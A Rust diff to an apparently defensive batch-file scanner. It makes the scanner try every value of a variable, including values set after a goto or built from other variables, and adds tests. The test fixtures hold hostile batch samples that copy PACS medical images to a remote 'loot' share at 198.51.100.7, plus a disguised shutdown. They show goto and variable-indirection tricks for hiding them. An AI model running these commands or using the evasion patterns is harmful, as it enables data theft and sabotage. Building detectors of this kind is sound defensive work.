@@ -7068,6 +7068,8 @@ impl Variables {
             .iter()
             .map(|(name, value)| (name.clone(), value.clone()))
             .collect();
+        // The values as written, of those built from others ([`Variables::add_built_variants`]).
+        let mut raw: Vec<Option<Vec<u8>>> = vec![None; self.set.len()];
         for k in 0..self.set.len() {
             let built = match &self.set[k].2 {
                 Some(value) if memchr::memchr(b'%', value).is_some() && !self.spent => {
@@ -7078,14 +7080,101 @@ impl Variables {
             if let Some(built) = built
                 && self.charge(built.len())
             {
-                self.set[k].2 = Some(built);
+                raw[k] = std::mem::replace(&mut self.set[k].2, Some(built));
             }
             latest.insert(self.set[k].1.clone(), self.set[k].2.clone());
         }
+        self.add_built_variants(&raw);
         for (i, (_, name, _)) in self.set.iter().enumerate() {
             self.by_name.entry(name.clone()).or_default().push(i);
         }
     }
+
+    /// A value built from other variables (`set s=%t%`) takes theirs as the `set` line
+    /// runs, and a `goto` may run it after any `set` of them (review rv43-screen, case2:
+    /// `set s=%t%` with `t` set after a `goto` was expanded with `t` unset only). Beside
+    /// the value built in file order, the value built with the `k`-th value of each
+    /// variable it names is kept as another `set` of the name at the same place (before
+    /// it, so a look-up in file order still takes the value built in file order), for
+    /// `k` up to [`MAX_VARIABLE_VALUES_TRIED`]: [`command_at_each_value`] tries them as it
+    /// tries a name set twice, and says when a name has more values than it tries. In
+    /// file order, so a chain (`set t=%u%`, `set s=%t%`) takes the values built before
+    /// it. Each value built is charged to [`MAX_EXPANDED_BYTES`]; a name keeps at most
+    /// one value more than are tried (enough for the warning), so the `set` commands
+    /// grow by at most that many per name.
+    fn add_built_variants(&mut self, raw: &[Option<Vec<u8>>]) {
+        use std::collections::HashMap;
+        let mut values: HashMap<Vec<u8>, Vec<Vec<u8>>> = HashMap::new();
+        for (_, name, value) in &self.set {
+            if let Some(value) = value {
+                values.entry(name.clone()).or_default().push(value.clone());
+            }
+        }
+        let mut variants: Vec<(usize, Vec<u8>, Option<Vec<u8>>)> = Vec::new();
+        for (k, raw) in raw.iter().enumerate() {
+            let Some(raw) = raw else { continue };
+            let (offset, name) = (self.set[k].0, self.set[k].1.clone());
+            let named = referenced_names(raw);
+            // Only a name set more than once, or after this line, brings another value.
+            let most = named
+                .iter()
+                .map(|n| values.get(n).map_or(0, Vec::len))
+                .max()
+                .unwrap_or(0);
+            for choice in 0..most.min(MAX_VARIABLE_VALUES_TRIED) {
+                if values.get(&name).map_or(0, Vec::len) > MAX_VARIABLE_VALUES_TRIED || self.spent {
+                    break;
+                }
+                let chosen: HashMap<Vec<u8>, Option<Vec<u8>>> = named
+                    .iter()
+                    .filter_map(|n| {
+                        let all = values.get(n)?;
+                        let value = all.get(choice).or_else(|| all.last())?;
+                        Some((n.clone(), Some(value.clone())))
+                    })
+                    .collect();
+                let built = expand_set_value(raw, &chosen);
+                if !self.charge(built.len()) {
+                    break;
+                }
+                let known = values.entry(name.clone()).or_default();
+                if !known.contains(&built) {
+                    known.push(built.clone());
+                    variants.push((offset, name.clone(), Some(built)));
+                }
+            }
+        }
+        if variants.is_empty() {
+            return;
+        }
+        // Before the value built in file order at the same place (a stable sort).
+        variants.append(&mut self.set);
+        variants.sort_by_key(|(offset, _, _)| *offset);
+        self.set = variants;
+    }
+}
+
+/// The names (lower case) of the variables `%NAME%` in `value` refers to, each once.
+fn referenced_names(value: &[u8]) -> Vec<Vec<u8>> {
+    let mut names: Vec<Vec<u8>> = Vec::new();
+    let mut i = 0;
+    while let Some(found) = value.get(i..).and_then(|rest| memchr::memchr(b'%', rest)) {
+        let open = i + found;
+        let Some(close) = memchr::memchr(b'%', &value[open + 1..]).map(|n| open + 1 + n) else {
+            break;
+        };
+        let name = &value[open + 1..close];
+        if is_variable_name(name) {
+            let lower = name.to_ascii_lowercase();
+            if !names.contains(&lower) {
+                names.push(lower);
+            }
+            i = close + 1;
+        } else {
+            i = close;
+        }
+    }
+    names
 }
 
 enum Lookup<'v> {
@@ -7567,6 +7656,12 @@ fn expand_program_name(
             continue; // no variable a file sets: nothing, in a batch file
         }
         let name = body.to_ascii_lowercase();
+        // A `goto` may run the line after any `set` of the name: each value is tried
+        // for the name as for the arguments ([`command_at_each_value`]; review
+        // rv43-screen, case1: `%c% C:\PACS\*.dcm \\h\loot` with `set c=copy` after a
+        // `goto`, or set twice, was read with the file-order value only).
+        let others = variables.alternatives(bytes, &name, at);
+        variables.alternatives = variables.alternatives.max(others);
         match variables.at(bytes, &name, at) {
             // A value with `%` or `!` expanded when it was set (`set q=%p%shell`, `set
             // p=%%a` in a `for`): what it holds is known only when the file runs.
@@ -10796,6 +10891,39 @@ mod lolbin_tests {
         assert_eq!(edited(b"abcdef", b"~1,-1"), Some(b"bcde".to_vec()));
         assert_eq!(edited(b"abcAbc", b"a=x"), Some(b"xbcxbc".to_vec()));
         assert_eq!(edited(b"abcdef", b"*c=Z"), Some(b"Zdef".to_vec()));
+    }
+
+    /// Review rv43-screen (issue 10, case1 and case2): a `goto` runs a line after any of
+    /// a variable's `set` commands. The values tried for arguments were not tried for a
+    /// program's name (`%c%` with `set c=copy` after a `goto`, or set twice), nor for a
+    /// value set from another variable set after it (`set s=%t%`, `t` set after a
+    /// `goto`).
+    #[test]
+    fn every_value_of_a_variable_is_tried_for_names_and_values_built_from_it() {
+        assert_alerts(
+            &[
+                "goto a\r\n:b\r\n%c% C:\\PACS\\*.dcm \\\\198.51.100.7\\loot\r\ngoto :eof\r\n:a\r\nset c=copy\r\ngoto b",
+                "set c=echo\r\ngoto a\r\n:b\r\n%c% /r /t 0\r\ngoto :eof\r\n:a\r\nset c=shutdown\r\ngoto b",
+                "goto a\r\n:b\r\nset s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\ngoto :eof\r\n:a\r\nset t=\\\\198.51.100.7\\loot\r\ngoto b",
+                "set u=C:\\x\r\ngoto a\r\n:b\r\nset t=%u%\r\nset s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\ngoto :eof\r\n:a\r\nset u=\\\\198.51.100.7\\loot\r\ngoto b",
+            ],
+            &[false, true],
+        );
+        assert_clean(&[
+            "set c=echo\r\n%c% /r /t 0\r\nset c=type\r\n%c% a.txt",
+            "set t=C:\\x\r\nset s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\nset t=D:\\y",
+        ]);
+        // More values than are tried: said, never silent.
+        let many: String = (0..=MAX_VARIABLE_VALUES_TRIED)
+            .map(|n| format!("set t=C:\\d{n}\r\n"))
+            .collect();
+        let line = format!("set s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\n{many}");
+        let found = found(line.as_bytes(), false).expect("a warning");
+        assert!(
+            found.detail.contains("MAX_VARIABLE_VALUES_TRIED"),
+            "{}",
+            found.detail
+        );
     }
 
     /// Review of session 41 (issue 10, item 1): a program named by a variable had its
